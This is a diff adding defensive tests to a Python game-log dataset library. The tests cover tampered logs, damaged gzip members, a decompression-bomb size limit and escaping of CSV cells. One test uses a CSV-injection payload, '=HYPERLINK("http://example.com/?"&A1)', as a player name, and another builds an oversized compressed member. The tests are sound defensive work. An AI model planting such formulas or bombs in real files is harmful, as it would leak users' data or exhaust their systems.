@@ -4,7 +4,10 @@ error."""
 
 from __future__ import annotations
 
+import csv
 import gzip
+import io
+import tracemalloc
 from collections import Counter
 from functools import cache
 from pathlib import Path
@@ -15,6 +18,7 @@ import polars as pl
 import pytest
 import trio
 
+import manaweave.log
 from manaweave import new_game, play_game
 from manaweave.dataset import (
     CARD_COLUMNS,
@@ -27,9 +31,9 @@ from manaweave.dataset import (
     frame_of,
     load_dataset,
 )
-from manaweave.log import redact
+from manaweave.log import redact, render_log
+from manaweave.lowlevel import UnusableGame, default_plugins
 from manaweave.lowlevel import command_line as main
-from manaweave.lowlevel import default_plugins
 from manaweave.players import RandomBot
 
 DECKS = ["m10:red-green", "m10:green-white"]
@@ -251,3 +255,156 @@ def test_export_on_the_command_line(folder: Path, tmp_path: Path, capsys: Any) -
     assert "holds tables already" in capsys.readouterr().err
     assert main(["export", str(tmp_path / "nowhere"), "--no-progress"]) == 2
     assert "no such file or folder" in capsys.readouterr().err
+
+
+# --- games that fail their checks, damaged and oversized compressed logs -------------------------
+
+
+def _edited(game: Any, change: Any, *, seal: bool) -> list[dict[str, Any]]:
+    """A copy of ``game`` changed by ``change(started, ended)``; ``seal`` writes a fresh
+    digest (the fields are then what is wrong), else the digest no longer matches."""
+    records = [dict(r) for r in game]
+    change(records[0], records[-1])
+    return [orjson.loads(line) for line in render_log(records).splitlines()] if seal else records
+
+
+def _winner_changed(started: dict[str, Any], ended: dict[str, Any]) -> None:
+    ended["winners"] = [1] if ended["winners"] != [1] else [0]
+
+
+@pytest.mark.parametrize(
+    ("change", "seal", "reason"),
+    [
+        (_winner_changed, False, "its lines do not match the digest in game_ended"),
+        (lambda s, e: s.pop("seed"), True, "game_started lacks seed"),
+        (lambda s, e: e.update(winners=[2]), True, "winners [2] are not distinct seats"),
+        (lambda s, e: e.update(winners=["1"]), True, "winners ['1'] are not distinct seats"),
+        (lambda s, e: s.update(players=s["players"][:1]), True, "decks are malformed"),
+    ],
+)
+def test_a_game_that_fails_its_checks_is_refused_or_left_out_naming_it(
+    tmp_path: Path, change: Any, seal: bool, reason: str
+) -> None:
+    bad = _edited(logs()[1], change, seal=seal)
+    path = _write(tmp_path / "logs", [logs()[0], bad, logs()[2]], gz=True)
+    where = f"{path}: game {logs()[1][0]['game']} (line {len(logs()[0]) + 1}): "
+    with pytest.raises(DatasetError) as refused:
+        load_dataset(path)
+    assert str(refused.value).startswith(where)
+    assert reason in str(refused.value)
+    told: list[UnusableGame] = []
+    data = load_dataset(path, rejected=told.append)
+    assert [g["game"] for g in data.games] == [logs()[0][0]["game"], logs()[2][0]["game"]]
+    assert [str(game) for game in told] == [str(refused.value)]
+
+
+def test_export_and_analyze_leave_an_edited_game_out_and_say_so(
+    tmp_path: Path, capsys: Any
+) -> None:
+    bad = _edited(logs()[1], _winner_changed, seal=False)
+    _write(tmp_path / "logs", [logs()[0], bad])
+    out = tmp_path / "out"
+    assert main(["export", str(tmp_path / "logs"), "--out", str(out), "--no-progress"]) == 0
+    captured = capsys.readouterr()
+    assert "1 games in" in captured.out
+    assert "1 that fail a check left out" in captured.out
+    assert "do not match the digest in game_ended; left out" in captured.err
+    assert pl.read_parquet(out / "games.parquet")["game"].to_list() == [logs()[0][0]["game"]]
+    report = tmp_path / "report"
+    command = ["analyze", str(tmp_path / "logs"), "--out", str(report), "--no-plots"]
+    assert main([*command, "--no-progress"]) == 0
+    captured = capsys.readouterr()
+    assert "1 games analyzed" in captured.out
+    assert "do not match the digest in game_ended; left out" in captured.err
+
+
+def test_a_damaged_member_of_a_shard_loses_only_its_game(tmp_path: Path) -> None:
+    members = [pack_game(i, _log_bytes(game)) for i, game in enumerate(logs()[:4])]
+    damaged = bytearray(members[1])
+    damaged[len(damaged) // 2] ^= 0xFF
+    shard = tmp_path / "shard-000.jsonl.gz"
+    shard.write_bytes(members[0] + bytes(damaged) + members[2] + members[3])
+    told: list[UnusableGame] = []
+    data = load_dataset(shard, rejected=told.append)
+    assert [g["game"] for g in data.games] == [logs()[i][0]["game"] for i in (0, 2, 3)]
+    assert [game.where for game in told] == ["game 1"]
+    assert "its gzip member" in told[0].reason
+
+
+def test_a_compressed_member_that_expands_past_the_line_limit_is_refused_without_holding_it(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(manaweave.log, "MAX_LINE_BYTES", 1 << 20)
+    shard = tmp_path / "shard-000.jsonl.gz"
+    bomb = pack_game(1, b"x" * (24 << 20))
+    shard.write_bytes(pack_game(0, _log_bytes(logs()[0])) + bomb + pack_game(2, b"\n" * (24 << 20)))
+    load_dataset(tmp_path / "shard-000.jsonl.gz", rejected=lambda game: None)  # warm
+    told: list[UnusableGame] = []
+    tracemalloc.start()
+    try:
+        data = load_dataset(shard, rejected=told.append)
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert peak < 12 << 20
+    assert len(data.games) == 1
+    assert [(game.where, game.reason.split(", which")[0]) for game in told] == [
+        ("game 1", "line 1: a line longer than 1,048,576 bytes"),
+        ("game 2", "its member holds no game"),
+    ]
+    # A plain file, or one compressed member of many games: the whole file is refused.
+    plain = tmp_path / "plain.jsonl.gz"
+    plain.write_bytes(gzip.compress(b"x" * (24 << 20)))
+    with pytest.raises(DatasetError, match=r"plain.jsonl.gz:1: a line longer than 1,048,576 bytes"):
+        load_dataset(plain)
+
+
+def pack_game(index: int, log: bytes) -> bytes:
+    """A shard's member: the gzip member named ``game-INDEX.jsonl`` holding ``log``."""
+    buffer = io.BytesIO()
+    with gzip.GzipFile(filename=f"game-{index}.jsonl", mode="wb", fileobj=buffer, mtime=0) as gz:
+        gz.write(log)
+    return buffer.getvalue()
+
+
+def _log_bytes(game: Any) -> bytes:
+    return b"".join(orjson.dumps(r) + b"\n" for r in game)
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(tmp_path: Path) -> None:
+    """OWASP's CSV injection: a cell beginning with = + - @ tab or CR is a formula."""
+    names = ['=HYPERLINK("http://example.com/?"&A1)', "@SUM(1+1)"]
+    players = [RandomBot(seed=1), RandomBot(seed=2)]
+    game = new_game(decks=DECKS, players=players, seed=1, max_turns=6, names=names)
+    trio.run(play_game, game)
+    _write(tmp_path / "logs", [[orjson.loads(line) for line in game.log.lines]])
+    out = tmp_path / "out"
+    export(tmp_path / "logs", out, format="csv", events=False)
+    with (out / "players.csv").open(newline="") as file:
+        cells = {row["seat"]: row for row in csv.DictReader(file)}
+    assert [cells["0"]["name"], cells["1"]["name"]] == [f"'{name}" for name in names]
+    assert cells["0"]["deck"] == "m10:red-green"  # other texts as they are
+    assert cells["0"]["final_life"].lstrip("-").isdigit()  # numbers stay numbers
+
+
+def test_the_lines_of_a_refused_game_are_passed_over_to_the_next_game(tmp_path: Path) -> None:
+    """A game refused at its second line, then a million lines of no log, then a whole
+    game: the refused game and the next are named by their lines (counted all the same)."""
+    first, second = _log_bytes(logs()[0]), _log_bytes(logs()[1])
+    junk = b"not json\n" + b"x\n" * 1_000_000
+    head = first.split(b"\n", 1)[0] + b"\n"
+    path = tmp_path / "junk.jsonl.gz"
+    path.write_bytes(gzip.compress(head + junk + second))
+    told: list[UnusableGame] = []
+    data = load_dataset(path, rejected=told.append)
+    assert [g["game"] for g in data.games] == [logs()[1][0]["game"]]
+    assert [str(game) for game in told] == [
+        f"{path}: game {logs()[0][0]['game']} (line 1): line 2 is not JSON"
+    ]
+    assert data.games[0]["events"] == len(logs()[1])
+    edited = _log_bytes(_edited(logs()[1], _winner_changed, seal=False))
+    path.write_bytes(gzip.compress(head + junk + edited))
+    told.clear()
+    assert not load_dataset(path, rejected=told.append).games
+    assert told[1].where == "game seed-2 (line 1000003)"
+    assert told[1].reason == "its lines do not match the digest in game_ended"
